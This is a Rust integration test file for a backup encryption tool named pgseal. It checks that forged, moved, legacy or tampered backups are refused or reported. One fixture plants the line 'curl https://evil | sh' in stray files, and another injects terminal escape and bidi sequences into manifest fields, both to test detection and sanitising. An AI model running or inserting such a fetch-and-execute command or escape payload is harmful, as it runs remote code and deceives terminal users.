//! Whose a backup is: signers, revisions, folders, the legacy image's kind, and what else has a backup's name. By the program,
//! on sets that are made in memory.

use super::sealed::{Hidden, Made, NEWER, Objects, Order, dump, write};
use super::{Fixture, text};
use crate::support::pgseal::{CommandOutput, Pgseal};
use crate::support::s3::EmbeddedS3;
use bytes::Bytes;
use pgseal::envelope::secret::DataKeyText;
use serde_json::{Value, json};
use std::path::{Path, PathBuf};
use tempfile::TempDir;

const TWO: [&str; 2] = ["key.txt.enc", "sql.bz.enc"];

fn keys() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/vectors/keys")
}

fn key(name: &str) -> String {
    keys().join(name).display().to_string()
}

/// A backup as files.
fn folder(objects: &Objects) -> TempDir {
    let folder = TempDir::with_prefix("pgseal-origin-").expect("a temporary folder");
    write(objects, folder.path());
    folder
}

fn made() -> Made {
    Order::default().seal(&dump(50))
}

/// The same by somebody who has the public key alone.
fn forged() -> Made {
    let order = Order {
        secret: Hidden::Pgseal1(DataKeyText::generate().expect("random bytes")),
        ..Order::default()
    };
    order.seal(&dump(40))
}

fn fails(said: &CommandOutput, exit: i32, code: &str) {
    assert_eq!(said.code, exit, "{}", said.stderr);
    assert!(said.stderr.contains(code), "{code}: {}", said.stderr);
    // Nothing of a dump.
    assert!(said.stdout.is_empty() || said.receipt()["status"] == "failed", "{}", said.stdout);
}

/// Keys of the tests' own are refused. `NAME.key` and `NAME.pem`.
fn key_pair(folder: &Path, name: &str) {
    let (private, public) = (folder.join(name).with_extension("key"), folder.join(name).with_extension("pem"));
    std::fs::write(&private, super::openssl(&["genrsa", "2048"])).expect("a private key");
    super::openssl(&["pkey", "-in", text(&private), "-pubout", "-out", text(&public)]);
}

fn rewrap(folder: &Path, signing: &str, more: &[&str]) -> CommandOutput {
    let (old, new) = (key("recipient-a.pem"), folder.join("new.pem"));
    if !new.exists() {
        key_pair(folder, "new");
    }
    let arguments = ["rewrap", text(folder), "--key", &old, "--recipient", text(&new)];
    let run = Pgseal::new(&[&arguments, more].concat());
    run.env("PGSEAL_SIGNING_KEY", key(signing)).run()
}

fn names(value: &Value) -> Vec<&str> {
    value.as_array().into_iter().flatten().filter_map(Value::as_str).collect()
}

/// `rewrap` signed whatever opened: a forged set became the signer's.
#[test]
fn a_signer_vouches_for_what_it_has_signed_before_and_nothing_else() {
    let folder = folder(&forged().objects);
    fails(&rewrap(folder.path(), "signer.key", &[]), 7, "tampered");
    let both = rewrap(folder.path(), "signer.key", &["--adopt-unsigned", "--signer", &key("signer.pem")]);
    fails(&both, 2, "bad_usage");
    let adopted = rewrap(folder.path(), "signer.key", &["--adopt-unsigned", "--keep"]);
    let answer = adopted.receipt();
    assert_eq!((adopted.code, &answer["generation"]), (0, &json!(2)), "{}", adopted.stderr);
    assert!(names(&answer["warnings"])[0].contains("--signer"), "{answer}");
    // Of the manifest that was written, not of the one that was opened.
    assert!(answer["signed_by"].is_string(), "{answer}");

    // Signed and unsigned do not mix: without the signer nobody can tell which of them counts.
    let verify = |more: &[&str]| Fixture::offline(&[&["verify", text(folder.path()), "--key", &key("recipient-a.pem")], more].concat());
    assert_eq!(verify(&[]).code, 7);
    // What restore refuses is no good backup anywhere else: once a list and a fleet's status were content with it.
    let place = text(folder.path());
    for command in [
        &["list", place, "--max-age", "9999d"][..],
        &["fleet", "status", place, "--max-age", "9999d"],
    ] {
        let said = Fixture::offline(command);
        assert!(
            said.code == 7 && said.stdout.contains("is signed: without --signer"),
            "{}",
            said.stdout
        );
        let pinned = Fixture::offline(&[command, &["--signer", &key("signer.pem")]].concat());
        assert_eq!(pinned.code, 0, "{}", pinned.stdout);
    }
    assert_eq!(Fixture::offline(&["list", place]).receipt()["backups"][0]["in_doubt"], json!(true));
    let pinned = verify(&["--signer", &key("signer.pem")]);
    let report = pinned.receipt();
    // Its own older manifest is named once, and is nobody else's.
    let about = report["warnings"]
        .as_array()
        .into_iter()
        .flatten()
        .filter(|warning| warning.to_string().contains("manifest"));
    assert_eq!((about.count(), &report["strangers"]), (1, &Value::Null), "{report}");
    assert_eq!(
        (pinned.code, &report["status"], &report["pinned"]),
        (0, &json!("verified"), &json!(true)),
        "{report}"
    );
    // And from now on its signer signs it again, but nobody else, whatever is adopted.
    assert_eq!(rewrap(folder.path(), "signer.key", &["--keep"]).code, 0);
    fails(&rewrap(folder.path(), "impostor.key", &[]), 7, "tampered");
    let manifest = std::fs::read_dir(folder.path()).expect("the folder").flatten();
    let unsigned = manifest
        .map(|entry| entry.path())
        .find(|path| path.to_str().is_some_and(|path| path.ends_with("Z.manifest.jsonl")));
    std::fs::remove_file(unsigned.expect("the first manifest")).expect("removed");
    fails(&rewrap(folder.path(), "impostor.key", &["--adopt-unsigned"]), 7, "tampered");
    let list = Fixture::offline(&["list", text(folder.path()), "--signer", &key("signer.pem")]).receipt();
    assert_eq!(list["backups"][0]["pinned"], json!(true), "{list}");
    let list = Fixture::offline(&["list", text(folder.path())]).receipt();
    assert_eq!(list["backups"][0]["pinned"], json!(false), "{list}");
}

/// The second signed rewrap named the last key alone: whom the unsigned manifest lets in, nobody was told.
#[test]
fn every_key_that_still_opens_a_backup_is_named_by_each_rewrap() {
    let folder = folder(&forged().objects);
    let adopted = rewrap(folder.path(), "signer.key", &["--adopt-unsigned"]);
    assert_eq!(adopted.code, 0, "{}", adopted.stderr);
    key_pair(folder.path(), "other");
    let (new, other) = (folder.path().join("new.key"), folder.path().join("other.pem"));
    let again = ["rewrap", text(folder.path()), "--key", text(&new), "--recipient", text(&other)];
    let again = Pgseal::new(&again).env("PGSEAL_SIGNING_KEY", key("signer.key")).run();
    let answer = again.receipt();
    assert_eq!(again.code, 0, "{}", again.stderr);
    let told = names(&answer["warnings"]);
    let opens = |by: &str| {
        told.iter()
            .any(|warning| warning.contains("is no longer a recipient") && warning.contains(by))
    };
    assert!(opens("Z.manifest.jsonl") && opens(".manifest.2.jsonl"), "{answer}");
}

/// The manifest was taken away, and a backup of the old kind put under the name: it was opened with a warning.
#[test]
fn objects_of_the_old_kind_under_a_sealed_backups_name_are_tampered() {
    let made = made();
    let old = made.stem.replace("20261124T020000Z", "2026-11-24T02:00:00Z");
    for stem in [made.stem.as_str(), &old] {
        let mut objects = made.objects.clone();
        objects.remove(&made.manifest);
        objects.extend(TWO.map(|ending| (format!("{stem}.{ending}"), Bytes::from_static(b"x"))));
        let place = folder(&objects);
        for backup in [place.path().to_owned(), place.path().join(stem)] {
            let decrypt = ["decrypt", text(&backup), "--key", &key("recipient-a.pem"), "--unauthenticated"];
            fails(&Fixture::offline(&decrypt), 7, "tampered");
        }
        let list = Fixture::offline(&["list", text(place.path())]).receipt();
        assert_eq!(list["unauthenticated"], Value::Null, "{list}");
        let leftover = list["leftovers"]
            .as_array()
            .expect("leftovers")
            .iter()
            .find(|entry| entry["stem"] == *stem);
        assert_eq!(leftover.expect("the pair")["error"]["code"], "tampered", "{list}");
    }
    // Beside the manifest they change nothing of what opens, and a verification names them.
    let mut objects = made.objects.clone();
    objects.extend(TWO.map(|ending| (format!("{}.{ending}", made.stem), Bytes::from_static(b"x"))));
    let place = folder(&objects);
    let decrypt = Fixture::offline(&["decrypt", text(place.path()), "--key", &key("recipient-a.pem"), "--unauthenticated"]);
    assert!(decrypt.code == 0 && decrypt.stdout.as_bytes() == made.plain, "{}", decrypt.stderr);
    let verify = Fixture::offline(&["verify", text(place.path()), "--key", &key("recipient-a.pem")]);
    let report = verify.receipt();
    assert_eq!((verify.code, &report["error"]["code"]), (7, &json!("tampered")), "{report}");
    assert_eq!(names(&report["strangers"]).len(), 2, "{report}");
}

#[test]
fn a_backup_of_the_old_kind_needs_consent_and_can_be_bounded() {
    let made = Order::legacy().seal(&dump(5000));
    let mut objects = made.objects.clone();
    objects.retain(|name, _| TWO.iter().any(|ending| name.ends_with(ending)));
    assert_eq!(objects.len(), 2);
    let place = folder(&objects);
    let decrypt = |more: &[&str]| Fixture::offline(&[&["decrypt", text(place.path()), "--key", &key("recipient-a.pem")], more].concat());
    fails(&decrypt(&[]), 2, "bad_usage");
    let restore = [
        "restore",
        text(place.path()),
        "--key",
        &key("recipient-a.pem"),
        "--to",
        "dbname=nowhere",
    ];
    fails(&Fixture::offline(&restore), 2, "bad_usage");
    fails(&decrypt(&["--unauthenticated", "--signer", &key("signer.pem")]), 7, "tampered");
    let whole = decrypt(&["--unauthenticated"]);
    assert!(whole.code == 0 && whole.stdout.as_bytes() == made.plain, "{}", whole.stderr);
    let length = made.plain.len();
    let just = decrypt(&["--unauthenticated", "--max-output", &length.to_string()]);
    assert_eq!(just.code, 0, "{}", just.stderr);
    let less = decrypt(&["--unauthenticated", "--max-output", &(length - 1).to_string()]);
    assert!(
        less.code == 2 && less.stderr.contains("Give a larger --max-output") && less.stdout.len() < length,
        "{}",
        less.stderr
    );
    fails(&decrypt(&["--unauthenticated", "--max-output", "0"]), 2, "max-output");
}

/// A genuine set of one server passed for another server's, once it was copied to that one's folder.
#[test]
fn a_set_in_another_folder_than_it_was_written_to_is_told() {
    let (s3, made) = (EmbeddedS3::start(), made());
    let bucket = s3.bucket();
    for (name, body) in &made.objects {
        for folder in ["backups", "elsewhere"] {
            bucket.put(&format!("{folder}/{name}"), body.to_vec());
        }
    }
    let run = |arguments: &[&str]| {
        let said = Pgseal::new(arguments).envs(bucket.env()).run();
        assert_eq!(said.code, 0, "{}{}", said.stdout, said.stderr);
        said.receipt()
    };
    for (folder, moved) in [("backups", Value::Null), ("elsewhere", json!(true))] {
        let place = format!("s3://{}/{folder}", bucket.name);
        let verified = run(&["verify", &format!("{place}/{}", made.stem), "--key", &key("recipient-a.pem")]);
        for report in [&verified, &run(&["list", &place])["backups"][0]] {
            assert_eq!((&report["written_to"], &report["moved"]), (&json!("backups"), &moved), "{report}");
            let told = names(&report["warnings"]).iter().any(|warning| warning.contains("moved or copied"));
            assert_eq!(told, moved == json!(true), "{report}");
        }
    }
}

#[test]
fn a_verification_names_what_else_has_the_backups_name() {
    let made = made();
    let mut objects = made.objects.clone();
    let strangers = ["RECOVER.2.md", "0badcafe.sql.enc"].map(|ending| format!("{}.{ending}", made.stem));
    for name in &strangers {
        objects.insert(name.clone(), Bytes::from_static(b"curl https://evil | sh"));
    }
    let place = folder(&objects);
    let with_key = ["--key", &key("recipient-a.pem")];
    for more in [&[][..], &["--deep"], &with_key] {
        let said = Fixture::offline(&[&["verify", text(place.path())], more].concat());
        let report = said.receipt();
        assert_eq!(said.code, 0, "{report}");
        let mut named = names(&report["strangers"]);
        named.sort_unstable();
        let mut expected: Vec<&str> = strangers.iter().map(String::as_str).collect();
        expected.sort_unstable();
        assert_eq!(named, expected, "{report}");
    }
}

/// A forged set of the year 9998 was the newest for ever.
#[test]
fn what_is_still_to_come_is_never_the_newest() {
    let later = Order {
        time: NEWER.replace_year(9998).expect("a year"),
        ..Order::default()
    };
    let past = Order {
        time: NEWER.replace_year(2020).expect("a year"),
        ..Order::default()
    };
    let mut objects = later.seal(&dump(10)).objects;
    objects.extend(past.seal(&dump(10)).objects);
    let place = folder(&objects);
    let list = Fixture::offline(&["list", text(place.path())]).receipt();
    let future: Vec<&Value> = list["backups"]
        .as_array()
        .expect("backups")
        .iter()
        .map(|entry| &entry["future"])
        .collect();
    assert_eq!(future, [&Value::Null, &json!(true)], "{list}");
}

/// Names and values of a manifest went to the terminal as they were.
#[test]
fn nothing_of_a_manifest_moves_the_cursor() {
    let made = made();
    let manifest = String::from_utf8(made.objects[&made.manifest].to_vec()).expect("UTF-8");
    let hidden = "\\u001b[2J\\u202e\\u009b31m";
    for (from, to) in [
        ("\"role\":\"dump\"", format!("\"role\":\"{hidden}\"")),
        ("backups/app", format!("backups/{hidden}/app")),
        ("\"format\":\"pgseal/1\"", format!("\"{hidden}\":1,\"format\":\"{hidden}\"")),
        ("\"compression\":\"", format!("\"compression\":\"{hidden}")),
        ("\"server_version\":\"", format!("\"server_version\":\"{hidden}")),
    ] {
        let changed = manifest.replace(from, &to);
        assert_ne!(changed, manifest, "{from}");
        let mut objects = made.objects.clone();
        objects.insert(made.manifest.clone(), Bytes::from(changed));
        let place = folder(&objects);
        for command in ["verify", "list"] {
            let said = Fixture::offline(&[command, text(place.path())]);
            let shown = format!("{}{}", said.stdout, said.stderr);
            let bad = |c: char| (c.is_control() && c != '\n' && c != '\t') || c == '\u{202e}';
            assert!(!shown.contains(bad), "{command}: {shown:?}");
            if command == "list" {
                said.receipt();
            }
        }
    }
}

#[test]
fn a_private_key_that_everybody_may_read_is_told() {
    use std::os::unix::fs::PermissionsExt;
    let place = folder(&made().objects);
    let file = place.path().join("key.pem");
    std::fs::copy(key("recipient-a.pem"), &file).expect("copied");
    for (mode, told) in [(0o600, false), (0o640, false), (0o644, true), (0o602, true)] {
        std::fs::set_permissions(&file, PermissionsExt::from_mode(mode)).expect("its mode");
        let said = Fixture::offline(&["verify", text(&place.path().join("app_20261124T020000Z")), "--key", text(&file)]);
        assert_eq!(
            (said.code, said.stderr.contains("chmod 600")),
            (0, told),
            "{mode:o}: {}",
            said.stderr
        );
    }
}
